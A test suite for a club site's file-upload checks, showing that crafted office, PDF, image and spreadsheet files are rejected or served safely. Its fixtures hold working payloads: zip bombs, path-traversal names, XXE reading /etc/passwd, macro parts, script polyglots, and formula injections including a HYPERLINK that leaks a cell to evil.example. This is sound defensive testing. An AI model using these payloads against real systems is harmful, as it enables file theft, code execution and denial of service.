import { mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { readXlsx } from "hucre/xlsx";
import { streamXlsx } from "@/lib/club-api/adapters/xlsx";
import { archiveLimits, judgeArchive } from "@/lib/club-api/http/files/archives";
import { startTestApi, type TestApi } from "../support/api";
import { letterWith, type Part, relationships, sheetWith, zipOf } from "../support/archives";
import { joined, picture } from "../support/images";
import { unzip } from "../support/unzip";

/*
 * Documents that harm who stores them or who opens them. The office opens what members attach to inquiries and team
 * forms, members what the office attaches: nothing that runs, loads or swells may pass.
 */

const megabyte = 1024 * 1024;

let api: TestApi;
let member: string;
let folder: string;
beforeAll(async () => {
  api = await startTestApi();
  member = (await api.signIn("kimmiru")).accessToken;
  folder = await mkdtemp(join(tmpdir(), "clubfront-documents-"));
});
afterAll(async () => {
  await api.close();
  await rm(folder, { recursive: true, force: true });
});

async function sendToOffice(name: string, bytes: Uint8Array) {
  const form = new FormData();
  form.append(
    "data",
    JSON.stringify({ questionType: "10", title: "A file", contents: "See it", replyBy: "SITE" }),
  );
  form.append("files", new Blob([new Uint8Array(bytes)]), name);
  return api.request("POST", "/voc", { token: member, body: form });
}

async function verdictOf(bytes: Uint8Array, isDocument = true) {
  const path = join(folder, "archive");
  await writeFile(path, bytes);
  return judgeArchive(path, isDocument);
}

const rels = (type: string, target: string, mode?: string): Part => ({
  name: "word/_rels/document.xml.rels",
  body: relationships(type, target, mode),
});

/** Lists of relationships that a search by words takes for a link to follow, or for none. */
const image = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image";
const inUtf16 = (text: string) => Buffer.from(`\ufeff${text}`, "utf16le");
const relationshipTricks: [what: string, body: string | Buffer][] = [
  [
    "a picture whose address talks of a hyperlink",
    `<Relationships><Relationship Id="a" Type="${image}" Target="https://evil.example/?Type='/hyperlink'" TargetMode="External"/></Relationships>`,
  ],
  [
    "a picture with another type beside its own",
    `<Relationships xmlns:x="x"><Relationship Id="a" x:Type="a/hyperlink" Type="${image}" Target="https://evil.example" TargetMode="External"/></Relationships>`,
  ],
  [
    "a picture whose address seems to end its tag",
    `<Relationships><Relationship Id="a" Type="${image}" Target="https://evil.example/?>" TargetMode="External"/></Relationships>`,
  ],
  [
    "a picture under a prefix with a hyphen",
    `<r-r:Relationships xmlns:r-r="r"><r-r:Relationship Id="a" Type="${image}" Target="https://evil.example" TargetMode="External"/></r-r:Relationships>`,
  ],
  [
    "a picture in UTF-16, between signs whose bytes are quotes",
    inUtf16(
      `<Relationships><Relationship Id="a" Type="${image}" Target="https://evil.example/∀ x=∀" TargetMode="External"/></Relationships>`,
    ),
  ],
  ["a list that is no XML", `<Relationships><Relationship Id="a Type=b TargetMode=External></Relationships>`],
];

const koreanLetter = (picture: string) =>
  zipOf([
    // The kind is told by the first bytes, which office programs leave unpacked.
    { name: "application/hwp+zip", body: "" },
    {
      name: "Contents/content.hpf",
      body: `<opf:package><opf:item id="a" href="${picture}" isEmbeded="0"/></opf:package>`,
    },
  ]);

describe("a member sends the office a document that runs, loads or swells when it is opened", () => {
  const zeros = (bytes: number) => Buffer.alloc(bytes);
  const hostile: [string, string, () => Buffer][] = [
    [
      "a sheet of 200 MB in 200 KB",
      "a.xlsx",
      () => sheetWith({ name: "xl/big.bin", body: zeros(200 * megabyte) }),
    ],
    [
      "many parts that are large together",
      "a.xlsx",
      () => {
        const body = zeros(40 * megabyte);
        return sheetWith(...[1, 2, 3, 4].map((part) => ({ name: `xl/${part}.bin`, body })));
      },
    ],
    [
      "a part that is larger than it says",
      "a.xlsx",
      () => sheetWith({ name: "xl/sharedStrings.xml", body: zeros(20 * megabyte), declaredSize: 1000 }),
    ],
    [
      "too many parts",
      "a.docx",
      () =>
        letterWith(
          ...Array.from({ length: 5001 }, (_none, part) => ({ name: `word/${part}.xml`, body: "" })),
        ),
    ],
    ["a part twice", "a.docx", () => letterWith({ name: "word/Document.xml", body: "<other/>" })],
    ["a name that leaves the folder", "a.docx", () => letterWith({ name: "../../evil.xml", body: "<a/>" })],
    ["a name from the root", "a.docx", () => letterWith({ name: "/etc/cron.d/evil", body: "x" })],
    ["a name of another system", "a.docx", () => letterWith({ name: "..\\evil.xml", body: "<a/>" })],
    [
      "an encrypted part",
      "a.docx",
      () => letterWith({ name: "word/secret.xml", body: "<a/>", isEncrypted: true }),
    ],
    ["macros under another name", "a.docx", () => letterWith({ name: "word/vbaProject.bin", body: "x" })],
    ["a sheet's macros", "a.xlsx", () => sheetWith({ name: "xl/vbaProject.bin", body: "x" })],
    ["old macro sheets", "a.xlsx", () => sheetWith({ name: "xl/macrosheets/sheet1.xml", body: "<a/>" })],
    ["an embedded object", "a.docx", () => letterWith({ name: "word/embeddings/oleObject1.bin", body: "x" })],
    ["a control", "a.docx", () => letterWith({ name: "word/activeX/activeX1.xml", body: "<a/>" })],
    [
      "a template from elsewhere",
      "a.docx",
      () => letterWith(rels("attachedTemplate", "https://evil.example/t.dotm")),
    ],
    [
      "a picture that tells who opened it",
      "a.docx",
      () => letterWith(rels("image", "https://evil.example/x.png")),
    ],
    [
      "a share that asks for a sign-in",
      "a.docx",
      () => letterWith(rels("frame", "file://evil.example/share")),
    ],
    [
      "a relationship whose mode is spelt in references",
      "a.docx",
      () => letterWith(rels("image", "https://evil.example/x.png", "&#69;xternal")),
    ],
    ...relationshipTricks.map(([what, body]): [string, string, () => Buffer] => [
      what,
      "a.docx",
      () => letterWith({ name: "word/_rels/document.xml.rels", body }),
    ]),
    ...["vbaProject", "oleObject", "control", "aFChunk", "webextension"].map(
      (type): [string, string, () => Buffer] => [
        `a part under a harmless name that is a ${type}`,
        "a.docx",
        () =>
          letterWith(
            { name: "word/media/image1.png", body: "x" },
            rels(type, "media/image1.png", "Internal"),
          ),
      ],
    ),
    ...["externalLink", "connections", "xlMacrosheet"].map((type): [string, string, () => Buffer] => [
      `a sheet with ${type}, whatever its name`,
      "a.xlsx",
      () => sheetWith({ name: "xl/_rels/workbook.xml.rels", body: relationships(type, "a.xml", "Internal") }),
    ]),
    [
      "macros that only the list of content types tells of",
      "a.docx",
      () =>
        zipOf([
          {
            name: "[Content_Types].xml",
            body: `<Types><Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`,
          },
          { name: "word/document.xml", body: "<w:document/>" },
        ]),
    ],
    [
      "relationships in pieces, of which none is called so",
      "a.docx",
      () =>
        letterWith({
          name: "word/_rels/document.xml.rels/[0].last.piece",
          body: relationships("image", "https://evil.example/x.png"),
        }),
    ],
    [
      "a document type behind five megabytes of nothing",
      "a.docx",
      () =>
        letterWith({
          name: "word/footer1.xml",
          body: `<!--${" ".repeat(5 * megabyte)}--><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`,
        }),
    ],
    [
      "a Korean letter with a picture from elsewhere",
      "a.hwpx",
      () => koreanLetter("https://evil.example/x.png"),
    ],
    ["a Korean letter with a picture of a share", "a.hwpx", () => koreanLetter("\\\\evil.example\\x.png")],
    [
      "a workbook that is fed by another one",
      "a.xlsx",
      () =>
        sheetWith({
          name: "xl/externalLinks/_rels/externalLink1.xml.rels",
          body: relationships("externalLinkPath", "https://evil.example/b.xlsx"),
        }),
    ],
    [
      "entities that multiply",
      "a.xlsx",
      () =>
        sheetWith({ name: "xl/sharedStrings.xml", body: `<!DOCTYPE x [<!ENTITY a "aaaa">]><sst>&a;</sst>` }),
    ],
    [
      "an entity that reads a file, in UTF-16",
      "a.docx",
      () =>
        letterWith({
          name: "word/footer1.xml",
          body: Buffer.from(
            `\ufeff<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`,
            "utf16le",
          ),
        }),
    ],
    [
      "XML in an encoding that hides its words",
      "a.docx",
      () =>
        letterWith({
          name: "word/footer1.xml",
          body: `<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE`,
        }),
    ],
  ];
  test.each(hostile)("%s", async (_what, name, make) => {
    const { json } = await sendToOffice(name, make());
    expect(json.fail?.code).toBe(9301);
    expect(await readdir(join(api.folder, ".incoming"))).toEqual([]);
  });

  test("the server unpacks no more than its bound to tell that a sheet is a bomb", async () => {
    const part = { name: "xl/1.bin", body: zeros(160 * megabyte), declaredSize: 100 };
    const lying = await verdictOf(sheetWith(part));
    expect(lying.fault).not.toBeNull();
    expect(lying.unpackedBytes).toBeLessThan(megabyte);
    const honest = await verdictOf(sheetWith({ ...part, declaredSize: 160 * megabyte }));
    expect(honest.fault).not.toBeNull();
    expect(honest.unpackedBytes).toBeLessThan(megabyte);
    const three = [1, 2, 3].map((at) => ({ name: `xl/${at}.bin`, body: zeros(60 * megabyte) }));
    const many = await verdictOf(sheetWith(...three));
    expect(many.fault).not.toBeNull();
    expect(many.unpackedBytes).toBeLessThanOrEqual(archiveLimits.unpackedBytes);
  });

  test("an archive within an archive is not unpacked", async () => {
    const inner = zipOf([{ name: "a.bin", body: zeros(100 * megabyte) }]);
    const verdict = await verdictOf(letterWith({ name: "word/embeddings/sheet.xlsx", body: inner }));
    expect(verdict).toEqual({ fault: null, unpackedBytes: expect.any(Number) });
    expect(verdict.unpackedBytes).toBeLessThan(megabyte);
  });

  test("a plain archive is judged by its names and never unpacked", async () => {
    const bomb = { name: "a.bin", body: zeros(100 * megabyte) };
    expect(await verdictOf(zipOf([bomb]), false)).toEqual({ fault: null, unpackedBytes: 0 });
    expect((await verdictOf(zipOf([{ name: "../a", body: "x" }]), false)).fault).not.toBeNull();
    expect((await sendToOffice("a.zip", zipOf([{ name: "../../a", body: "x" }]))).json.fail?.code).toBe(9301);
  });

  test.each([
    [
      "a.docx",
      () => letterWith(rels("hyperlink", "https://www.golf.example/"), { name: "word/media/", body: "" }),
    ],
    ["a.xlsx", () => sheetWith({ name: "xl/sharedStrings.xml", body: "<sst>&amp;&#45;</sst>" })],
    ["a.hwpx", () => koreanLetter("BinData/image1.png")],
    [
      "a.docx",
      () =>
        letterWith({
          name: "word/_rels/document.xml.rels",
          body: inUtf16(
            `<?xml version="1.0" encoding="UTF-16"?>\n<!-- 표 -->\n<Relationships xmlns="r"><Relationship Id="a" Type="${image}" Target="media/솔.png"/><Relationship Id='b' Type='http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink' Target='https://golf.example/?a=1&amp;b=2' TargetMode='External'></Relationship></Relationships>`,
          ),
        }),
    ],
  ])("an honest %s with a link to follow is taken", async (name, make) => {
    expect((await sendToOffice(name, make())).json.result).toBe(true);
  });
});

describe("a file of the site runs in the reader's browser", () => {
  test.each([
    [
      "a PDF with a script",
      "a.pdf",
      joined("%PDF-1.7 1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
    ],
    ["a letter", "a.docx", new Uint8Array(letterWith())],
  ])("%s is saved, never shown", async (_what, name, bytes) => {
    const { json } = await sendToOffice(name, bytes);
    const detail = await api.request("GET", `/voc/${json.data.vocIdx}`, { token: member });
    const [file] = detail.json.data.files as { url: string }[];
    const answer = await api.send("GET", file?.url ?? "", { token: member });
    expect(answer.headers.get("content-disposition")).toMatch(/^attachment;/);
    expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
    expect(answer.headers.get("content-security-policy")).toContain("sandbox");
  });

  test("a page behind a picture's head is redrawn into a picture", async () => {
    const polyglot = joined(await picture("gif"), "<script>alert(1)</script>");
    const { json } = await sendToOffice("a.gif", polyglot);
    const detail = await api.request("GET", `/voc/${json.data.vocIdx}`, { token: member });
    const [file] = detail.json.data.files as { url: string; contentType: string }[];
    expect(file?.contentType).toBe("image/webp");
    const answer = await api.send("GET", file?.url ?? "", { token: member });
    expect(Buffer.from(await answer.arrayBuffer()).includes("alert")).toBe(false);
    expect(answer.headers.get("content-security-policy")).toContain("sandbox");
  });

  test("an SVG is no picture", async () => {
    const svg = joined(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`);
    for (const name of ["a.svg", "a.png"]) expect((await sendToOffice(name, svg)).json.fail?.code).toBe(9301);
  });
});

describe("a member's words run as a formula in the office's sheet", () => {
  const words = [
    '=HYPERLINK("https://evil.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "%0A=1+1",
    "</t></is></c><c><f>1+1</f></c>",
    "]]><f>1+1</f>",
  ];

  test("no word becomes a formula, a link or another cell", async () => {
    const bytes = new Uint8Array(
      await new Response(
        streamXlsx(
          "words",
          ["Words"],
          words.map((one) => [one]),
        ),
      ).arrayBuffer(),
    );
    const parts = unzip(bytes);
    for (const [name, part] of parts) {
      expect([name, /<(?:\w+:)?(?:f|hyperlink|ddeLink|oleLink)\b/i.test(part.toString("utf8"))]).toEqual([
        name,
        false,
      ]);
    }
    const preview = await readXlsx(bytes);
    const cells = preview.sheets[0]?.rows.slice(1).map(([cell]) => String(cell).trim());
    expect(cells).toEqual(words.map((one) => one.trim()));
    expect((await verdictOf(bytes)).fault).toBeNull();
  });
});
